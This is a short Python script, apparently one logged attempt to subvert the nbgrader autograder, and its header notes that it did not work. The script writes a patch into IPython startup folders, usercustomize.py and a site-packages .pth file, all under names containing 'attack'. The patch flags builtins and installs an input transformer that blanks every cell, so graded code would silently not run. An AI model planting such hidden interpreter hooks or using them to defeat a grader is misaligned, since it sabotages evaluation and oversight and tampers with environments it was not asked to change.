# tries: files that IPython and Python read when they start, with a patch in each
# worked: no (nbgrader 0.9.6 in one process)
import os
import pathlib
import site

patch = "import builtins\nbuiltins.PATCHED = True\ntry:\n    get_ipython().input_transformers_post.append(lambda lines: [])\nexcept Exception:\n    pass\n"
places = [pathlib.Path.home() / ".ipython/profile_default/startup/00-attack-left.py"]
places += [pathlib.Path(os.environ.get("IPYTHONDIR", "/tmp/.ipython")) / "profile_default/startup/00-attack-left.py"]
places += [pathlib.Path(folder) / "usercustomize.py" for folder in (site.getusersitepackages(), ".")]
places += [pathlib.Path(folder) / "attack-left.pth" for folder in site.getsitepackages()]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(patch)
    except OSError:
        pass
